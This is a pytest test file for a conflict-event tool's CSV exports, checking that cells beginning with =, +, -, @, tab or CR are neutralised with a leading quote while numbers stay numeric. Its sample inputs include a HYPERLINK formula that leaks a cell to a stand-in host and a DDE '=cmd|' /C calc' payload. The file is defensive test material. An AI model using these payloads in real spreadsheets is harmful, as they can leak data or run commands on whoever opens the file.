"""Issue 14, hardening: no CSV ConflictMap writes runs a formula in a spreadsheet (OWASP "CSV
Injection"): text cells starting with = + - @ tab or CR get a leading single quote; numbers,
negative longitudes included, stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from conflictmap import cli, rejects, spreadsheet
from conflictmap.importers.candidates import Reject

FORMULAS = {
    "actor1": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "actor2": "+1+1",
    "notes": "-2+3",
    "source": "@SUM(1)",
    "location": "\t=1+1",
    "sub_event_type": "\r=1+1",
}


def rows_of(content: bytes | str) -> list[dict[str, str]]:
    raw = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(raw)))


@pytest.mark.parametrize("cell", [*FORMULAS.values(), "=1", "+", "-", "@", "-x", "+57 1", "\n=1"])
def test_a_cell_that_starts_a_formula_is_quoted(cell: str) -> None:
    assert spreadsheet.neutralise(cell) == "'" + cell.replace("\r", "\n")


def test_a_carriage_return_in_a_cell_does_not_split_the_row() -> None:
    """Python's csv writer leaves a bare CR unquoted: it becomes a line feed, which is quoted."""
    assert spreadsheet.neutralise("a\rb\r\nc") == "a\nb\nc"
    [row] = rows_of(rejects.rejects_csv([Reject(2, "why", {"notes": "a\rb"})]))
    assert row["notes"] == "a\nb"


@pytest.mark.parametrize(
    "cell", ["-75.28", "+57", "-1e3", "2.93", "Clan del Golfo", "", " =1", "a=b", "'=1"]
)
def test_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
    assert spreadsheet.neutralise(cell) == cell


def test_only_text_columns_of_a_frame_change() -> None:
    frame = pd.DataFrame(
        {"longitude": [-75.28, -74.1], "actor": ["=1+1", "ELN"], "n": [-1, 2],
         "code": ["41001", None]}
    )  # fmt: skip
    out = spreadsheet.neutralise_frame(frame)
    assert out["longitude"].tolist() == [-75.28, -74.1]
    assert out["n"].tolist() == [-1, 2]
    assert out["actor"].tolist() == ["'=1+1", "ELN"]
    assert out["code"].iloc[0] == "41001" and pd.isna(out["code"].iloc[1])
    assert frame["actor"].tolist() == ["=1+1", "ELN"]  # the caller's frame is not changed


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory, boundaries) -> Path:  # noqa: ARG001
    from conflictmap import ingest

    rows = [
        {"event_date": "2022-06-01", "event_type": "Battles", "latitude": "2.93",
         "longitude": "-75.28", "fatalities": "1", "source_url": "https://example.org/a",
         **FORMULAS},
    ]  # fmt: skip
    db = tmp_path_factory.mktemp("formulas") / "formulas.duckdb"
    report = ingest.import_frame(
        pd.DataFrame(rows), name="formulas.csv", fmt="native", db=db, dataset="=cmd|' /C calc'!A0"
    )
    assert (report.inserted, report.rejected) == (1, 0)
    return db


def test_cli_csv_export_writes_formulas_as_text(formula_db: Path, tmp_path: Path) -> None:
    """`conflictmap snapshot --out x.csv` (the dashboard's CSV download is the same export)."""
    out = tmp_path / "incidents.csv"
    assert cli.main(["snapshot", "--out", str(out), "--db", str(formula_db)]) == 0
    [row] = rows_of(out.read_bytes())
    for column, value in FORMULAS.items():  # (the import strips a leading tab or CR)
        assert row[column] == "'" + value.strip(), column
    assert row["dataset"] == "'=cmd|' /C calc'!A0"
    # numbers stay numbers: the negative longitude first of all
    assert row["longitude"] == "-75.28" and float(row["longitude"]) == -75.28
    assert row["latitude"] == "2.93" and row["fatalities"] == "1"
    assert row["source_url"] == "https://example.org/a"
    frame = pd.read_csv(out)
    assert frame["longitude"].dtype.kind == "f" and frame["longitude"].iloc[0] == -75.28


def test_aggregates_csv_keeps_its_numbers(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "huila.aggregates.csv"
    assert cli.main(["snapshot", "--dept", "41", "--out", str(out), "--db", str(formula_db)]) == 0
    frame = pd.read_csv(out, dtype={"code": str})
    assert frame["incidents"].sum() == 1 and frame["incidents"].dtype.kind == "i"
    assert not frame["name"].str.startswith("'").any()


def test_chart_data_csv_writes_formulas_as_text() -> None:
    from conflictmap import charts

    frame = pd.DataFrame({"actor": ["@SUM(1)", "ELN"], "incidents": [3, -1]})
    rows = rows_of(charts.to_csv(frame))
    assert [r["actor"] for r in rows] == ["'@SUM(1)", "ELN"]
    assert [r["incidents"] for r in rows] == ["3", "-1"]


def test_rejects_csv_writes_formulas_as_text_and_keeps_numbers(tmp_path: Path) -> None:
    raw = {"event_date": "2022-13-01", "longitude": "-75.28", "latitude": "2.93", **FORMULAS}
    found = [Reject(7, "=bad date", raw)]
    [row] = rows_of(rejects.rejects_csv(found))
    assert row["row"] == "7" and row["reason"] == "'=bad date"
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value.replace("\r", "\n"), column
    assert row["longitude"] == "-75.28" and row["latitude"] == "2.93"
    # the file written next to the database too
    path = rejects.write_rejects(found, "x.csv", None, None, tmp_path)
    assert path is not None
    [row] = rows_of(path.read_text(encoding="utf-8"))
    assert row["actor1"].startswith("'=HYPERLINK") and row["longitude"] == "-75.28"
